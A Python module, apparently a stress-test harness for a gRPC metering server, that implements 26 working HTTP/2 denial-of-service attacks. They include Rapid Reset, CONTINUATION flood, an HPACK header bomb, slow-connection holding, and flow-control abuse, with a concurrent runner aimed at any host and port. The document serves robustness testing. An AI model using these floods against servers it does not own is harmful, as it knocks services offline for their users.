"""Callers that do not keep to HTTP/2, by raw sockets: each attack is a function in `ATTACKS`.

An attack goes on until its time is over. What it is answered does not matter, but that the server
lives, and serves others meanwhile.
"""

from __future__ import annotations

import random
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from typing import Final, NamedTuple, Self

import hpack
from grpc_reflection.v1alpha import reflection_pb2
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from meterhold.v1 import metering_service_pb2

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BALANCE: Final = "/meterhold.v1.MeteringService/Balance"
REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

_SOCKET_SECONDS: Final = 0.5
_PAUSE_SECONDS: Final = 0.005
_SLOW_SECONDS: Final = 0.2
_FRAME_BYTES: Final = 16_384
_WINDOW_MAX: Final = 2**31 - 1
_CONNECTIONS: Final = 60
_STREAMS: Final = 900
"""Of a connection that keeps within what a server allows."""

_INITIAL_WINDOW: Final = SettingsFrame.INITIAL_WINDOW_SIZE

_REQUEST: Final = metering_service_pb2.BalanceRequest(account="ann").SerializeToString()
_LARGE_ANSWER: Final = reflection_pb2.ServerReflectionRequest(
    file_by_filename="meterhold/v1/metering_service.proto"
).SerializeToString()


class Target(NamedTuple):
    """Whom to attack, for how long, and with what luck."""

    host: str
    port: int
    until: float
    """By `time.monotonic`."""
    chance: random.Random

    def left(self) -> bool:
        return time.monotonic() < self.until

    def wait(self) -> None:
        """Until the time is over."""
        time.sleep(max(0.0, self.until - time.monotonic()))


class Damage(NamedTuple):
    """What an attack did: how many connections it made, and how often it did what it does."""

    connections: int
    strokes: int


class Line:
    """A connection that sends what it is told to. `alive` is False once the server has ended it."""

    def __init__(self, target: Target, *, preface: bool = True) -> None:
        self._socket = socket.create_connection((target.host, target.port), _SOCKET_SECONDS)
        self._encoder = hpack.Encoder()
        self.alive = True
        if preface:
            self.send(PREFACE, SettingsFrame(0))

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def send(self, *parts: Frame | bytes) -> bool:
        """Whether the server still takes anything. A full buffer counts as that it does."""
        data = b"".join(part if isinstance(part, bytes) else part.serialize() for part in parts)
        try:
            self._socket.sendall(data)
        except TimeoutError:
            # Half a frame may be under way: nothing that makes sense can follow.
            self.alive = False
        except OSError:
            self.alive = False
        return self.alive

    def drain(self) -> None:
        """Read what there is, so that the server can go on sending."""
        self._socket.setblocking(False)
        try:
            while data := self._socket.recv(1 << 16):
                pass
            self.alive = bool(data)
        except BlockingIOError:
            pass
        except OSError:
            self.alive = False
        finally:
            self._socket.settimeout(_SOCKET_SECONDS)

    def headers(
        self, stream: int, path: str | bytes = BALANCE, *extra: tuple[str, str], end: bool = True
    ) -> HeadersFrame:
        """The headers of a call; `end` = they are all there."""
        block = self._encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", "fuzz"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *extra,
            ],
            huffman=False,
        )
        return HeadersFrame(stream, block, flags=["END_HEADERS"] if end else [])

    def block(self, *extra: tuple[str, str]) -> bytes:
        """Headers alone, in HPACK."""
        return bytes(self._encoder.encode(extra, huffman=False))


def data(stream: int, message: bytes = _REQUEST, *, end: bool = True) -> DataFrame:
    """A message as gRPC frames it; `end` = no more will come."""
    framed = b"\0" + len(message).to_bytes(4, "big") + message
    return DataFrame(stream, framed, flags=["END_STREAM"] if end else [])


def _streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


@contextmanager
def _lines(target: Target, count: int, *, preface: bool = True) -> Iterator[list[Line]]:
    """So many connections at once, or as many as can be had."""
    lines: list[Line] = []
    try:
        while len(lines) < count and target.left():
            with suppress(OSError):
                lines.append(Line(target, preface=preface))
        yield lines
    finally:
        for line in lines:
            line.__exit__()


def _again_and_again(
    target: Target, stroke: Callable[[Line, int], object], *, pause_seconds: float = 0.0
) -> Damage:
    """On a connection until the server ends it, then on the next; `stroke` gets stream numbers.

    With a pause after each stroke where it is about what is sent, and not how much of it.
    """
    connections = strokes = 0
    while target.left():
        with suppress(OSError), Line(target) as line:
            connections += 1
            for stream in _streams():
                if not line.alive or not target.left():
                    break
                stroke(line, stream)
                strokes += 1
                if strokes % 64 == 0:
                    line.drain()
                if pause_seconds:
                    time.sleep(pause_seconds)
    return Damage(connections, strokes)


def _held_open(target: Target, begin: Callable[[Line], object], connections: int) -> Damage:
    """Begin something on many connections, and never end it."""
    with _lines(target, connections) as lines:
        for line in lines:
            begin(line)
        target.wait()
        return Damage(len(lines), len(lines))


def silence(target: Target) -> Damage:
    """Connections on which nothing comes."""
    with _lines(target, _CONNECTIONS, preface=False) as lines:
        target.wait()
        return Damage(len(lines), len(lines))


def idle_connections(target: Target) -> Damage:
    """Connections in good order on which no call is made."""
    return _held_open(target, lambda line: line.send(SettingsFrame(0, flags=["ACK"])), 300)


def slow_preface(target: Target) -> Damage:
    """A byte at a time, and a long time between them."""
    sent = 0
    with _lines(target, _CONNECTIONS, preface=False) as lines:
        while target.left():
            for line in lines:
                line.send(PREFACE[sent % len(PREFACE) :][:1])
            sent += 1
            time.sleep(_SLOW_SECONDS)
    return Damage(len(lines), sent * len(lines))


def half_headers(target: Target) -> Damage:
    """The first half of a frame of headers."""

    def begin(line: Line) -> None:
        whole = line.headers(1).serialize()
        line.send(whole[: len(whole) // 2])

    return _held_open(target, begin, _CONNECTIONS)


def endless_headers(target: Target) -> Damage:
    """Headers that are announced to go on, and do not."""
    return _held_open(target, lambda line: line.send(line.headers(1, end=False)), _CONNECTIONS)


def half_messages(target: Target) -> Damage:
    """As many streams as a connection may have, each with half a message."""
    strokes = 0
    with _lines(target, 3) as lines:
        for line in lines:
            for stream in range(1, 2 * _STREAMS, 2):
                half = data(stream, end=False)
                half.data = half.data[:7]
                if line.send(line.headers(stream), half):
                    strokes += 1
            line.drain()
        target.wait()
        return Damage(len(lines), strokes)


def streams_without_a_message(target: Target) -> Damage:
    """Calls that are ended before they have asked for anything."""

    def stroke(line: Line, stream: int) -> None:
        headers = line.headers(stream)
        headers.flags.add("END_STREAM")
        line.send(headers)

    return _again_and_again(target, stroke)


def rapid_reset(target: Target) -> Damage:
    """Calls that are asked for and given up at once, as fast as can be."""
    return _again_and_again(
        target,
        lambda line, stream: line.send(
            line.headers(stream), data(stream), RstStreamFrame(stream, 8)
        ),
    )


def rapid_reset_of_streams(target: Target) -> Damage:
    """The same with calls that can have many messages, and none of it has come."""
    return _again_and_again(
        target,
        lambda line, stream: line.send(line.headers(stream, REFLECTION), RstStreamFrame(stream, 8)),
    )


def reset_by_the_server(target: Target) -> Damage:
    """Calls that the server has to reset, as their windows overflow."""
    return _again_and_again(
        target,
        lambda line, stream: line.send(
            line.headers(stream), data(stream), WindowUpdateFrame(stream, _WINDOW_MAX)
        ),
    )


def ping_flood(target: Target) -> Damage:
    return _again_and_again(target, lambda line, _: line.send(PingFrame(0, b"fuzzfuzz")))


def settings_flood(target: Target) -> Damage:
    """Settings that change all the time: each has to be acknowledged."""
    return _again_and_again(
        target,
        lambda line, number: line.send(
            SettingsFrame(
                0, settings={_INITIAL_WINDOW: number, SettingsFrame.HEADER_TABLE_SIZE: number}
            )
        ),
    )


def priority_flood(target: Target) -> Damage:
    return _again_and_again(
        target,
        lambda line, stream: line.send(PriorityFrame(stream, stream + 2, stream_weight=255)),
    )


def empty_frames(target: Target) -> Damage:
    """One call, whose message comes in parts that have nothing in them."""

    def stroke(line: Line, stream: int) -> None:
        if stream == 1:
            line.send(line.headers(1))
        line.send(*(DataFrame(1, b"") for _ in range(50)))

    return _again_and_again(target, stroke)


def continuation_flood(target: Target) -> Damage:
    """Headers of a call that never end, a frame after another."""

    def stroke(line: Line, stream: int) -> None:
        if stream == 1:
            line.send(line.headers(1, end=False))
        line.send(ContinuationFrame(1, line.block((f"x-{stream}", "x" * 8000))))

    return _again_and_again(target, stroke, pause_seconds=_PAUSE_SECONDS)


def huge_headers(target: Target) -> Damage:
    """Metadata of a hundred kilobytes in each call."""

    def stroke(line: Line, stream: int) -> None:
        block = line.block(*((f"x-{number}", "x" * 10_000) for number in range(10)))
        parts = [block[i : i + _FRAME_BYTES] for i in range(0, len(block), _FRAME_BYTES)]
        frames = [ContinuationFrame(stream, part) for part in parts]
        frames[-1].flags.add("END_HEADERS")
        line.send(line.headers(stream, end=False), *frames, data(stream))

    return _again_and_again(target, stroke, pause_seconds=_PAUSE_SECONDS)


def header_bomb(target: Target) -> Damage:
    """A large header, which is then named a thousand times by a byte each."""

    def stroke(line: Line, stream: int) -> None:
        named = line.block(("x-bomb", "x" * 4000))
        bomb = ContinuationFrame(stream, named + line.block(("x-bomb", "x" * 4000)) * 1000)
        bomb.flags.add("END_HEADERS")
        line.send(line.headers(stream, end=False), bomb, data(stream))

    return _again_and_again(target, stroke, pause_seconds=_PAUSE_SECONDS)


def window_misuse(target: Target) -> Damage:
    """Windows that grow by nothing, or beyond what there is."""

    def stroke(line: Line, stream: int) -> None:
        grown = WindowUpdateFrame(0, _WINDOW_MAX)
        nothing = grown.serialize()[:-4] + b"\0\0\0\0"
        line.send(line.headers(stream), target.chance.choice((grown, nothing)))

    return _again_and_again(target, stroke)


def more_than_the_window(target: Target) -> Damage:
    """More data than the server has asked for."""

    def stroke(line: Line, stream: int) -> None:
        line.send(line.headers(stream), *(DataFrame(stream, b"x" * _FRAME_BYTES) for _ in range(9)))

    return _again_and_again(target, stroke, pause_seconds=_PAUSE_SECONDS)


def closed_windows(target: Target) -> Damage:
    """Calls for large answers, of which nothing may be sent."""
    strokes = 0
    with _lines(target, 3) as lines:
        for line in lines:
            line.send(SettingsFrame(0, settings={_INITIAL_WINDOW: 0}))
            for stream in range(1, 2 * _STREAMS, 2):
                if line.send(line.headers(stream, REFLECTION), data(stream, _LARGE_ANSWER)):
                    strokes += 1
                if stream % 50 == 1:
                    line.drain()
        target.wait()
        return Damage(len(lines), strokes)


def never_reads(target: Target) -> Damage:
    """The same with open windows, and nobody takes the answers out of the line."""
    strokes = 0
    with _lines(target, 3) as lines:
        for line in lines:
            line.send(SettingsFrame(0, settings={_INITIAL_WINDOW: _WINDOW_MAX}))
            line.send(WindowUpdateFrame(0, 2**30))
            for stream in range(1, 2 * _STREAMS, 2):
                if line.send(line.headers(stream, REFLECTION), data(stream, _LARGE_ANSWER)):
                    strokes += 1
        target.wait()
        return Damage(len(lines), strokes)


def junk(target: Target) -> Damage:
    """What is no HTTP/2 at all: noise, the greeting of TLS, HTTP/1.1."""
    chance, connections = target.chance, 0
    while target.left():
        with suppress(OSError), Line(target, preface=False) as line:
            connections += 1
            noise = chance.randbytes(chance.choice((1, 9, 4096)))
            line.send(
                chance.choice(
                    (
                        noise,
                        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + noise,
                        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
                        PREFACE + noise,
                        PREFACE + SettingsFrame(0).serialize() + noise,
                    )
                )
            )
            line.drain()
    return Damage(connections, connections)


def wrong_frames(target: Target) -> Damage:
    """Frames where they have no place, or of lengths that they cannot have."""
    chance = target.chance

    def stroke(line: Line, stream: int) -> None:
        length, kind, flags = (
            chance.choice((0, 1, 5, 8)),
            chance.randrange(256),
            chance.randrange(256),
        )
        raw = length.to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
        line.send(
            chance.choice(
                (
                    raw + chance.randbytes(length),
                    DataFrame(stream + 2, b"x").serialize(),
                    HeadersFrame(stream + 1, line.block((":method", "POST"))).serialize(),
                    PushPromiseFrame(stream, stream + 1, data=b"").serialize(),
                    GoAwayFrame(0, last_stream_id=stream).serialize(),
                    ContinuationFrame(stream, b"\x82").serialize(),
                    SettingsFrame(0).serialize()[:8] + b"\x01",
                )
            )
        )

    return _again_and_again(target, stroke)


def mutated_calls(target: Target) -> Damage:
    """Calls in good order, of whose bytes a few were changed on the way."""
    chance = target.chance

    def stroke(line: Line, stream: int) -> None:
        good = bytearray(line.headers(stream).serialize() + data(stream).serialize())
        for _ in range(chance.randrange(3)):
            good[chance.randrange(len(good))] = chance.randrange(256)
        line.send(bytes(good))

    return _again_and_again(target, stroke)


def odd_calls(target: Target) -> Damage:
    """Calls whose headers or framing are not what gRPC asks for."""
    chance = target.chance
    extras = (
        ("grpc-timeout", "0n"), ("grpc-timeout", "99999999999H"), ("grpc-timeout", "-1S"),
        ("grpc-timeout", "1x"), ("grpc-encoding", "gzip"), ("grpc-encoding", "junk"),
        ("content-type", "text/html"), ("content-length", "7"), ("grpc-accept-encoding", ","),
        ("x-request-id", "\u00e9"), ("x-request-id", "\x00"), ("authorization", "Bearer \u00e9"),
        ("x-bin", "%%%"), ("grpc-status-details-bin", "AAAA"), ("X-Upper", "x"), ("", "x"),
        (":path", "/"), (":unknown", "x"), ("connection", "close"),
        ("grpc-previous-rpc-attempts", "x"), ("user-agent", "x" * 2000),
    )  # fmt: skip

    def stroke(line: Line, stream: int) -> None:
        framed = data(stream)
        match chance.randrange(6):
            case 0:
                framed.data = b"\1" + framed.data[1:]
            case 1:
                framed.data = b"\0\xff\xff\xff\xff" + framed.data[5:]
            case 2:
                framed.data += framed.data
            case 3:
                framed.data = framed.data[:3]
        line.send(line.headers(stream, BALANCE, chance.choice(extras)), framed)

    return _again_and_again(target, stroke)


def paths_that_are_no_text(target: Target) -> Damage:
    """Calls of a method whose name is not UTF-8: each ends what serves in gRPC, and all its calls.

    Not as fast as can be: this is about what comes after one.
    """
    strokes = 0
    while target.left():
        with suppress(OSError), Line(target) as line:
            strokes += line.send(line.headers(1, b"/\xff"), data(1))
            time.sleep(0.5)
    return Damage(strokes, strokes)


ATTACKS: Final[dict[str, Callable[[Target], Damage]]] = {
    function.__name__: function
    for function in (
        silence, idle_connections, slow_preface, half_headers, endless_headers, half_messages,
        streams_without_a_message, rapid_reset, rapid_reset_of_streams, reset_by_the_server,
        ping_flood, settings_flood, priority_flood, empty_frames, continuation_flood, huge_headers,
        header_bomb, window_misuse, more_than_the_window, closed_windows, never_reads, junk,
        wrong_frames, mutated_calls, odd_calls, paths_that_are_no_text,
    )
}  # fmt: skip


def attack(names: list[str], address: str, seconds: float, seed: int) -> dict[str, Damage]:
    """Carry out some attacks, all at the same time, in this process."""
    host, _, port = address.rpartition(":")
    until = time.monotonic() + seconds

    def one(name: str) -> Damage:
        chance = random.Random(f"{seed} {name}")
        return ATTACKS[name](Target(host, int(port), until, chance))

    with ThreadPoolExecutor(len(names)) as pool:
        return dict(zip(names, pool.map(one, names), strict=True))
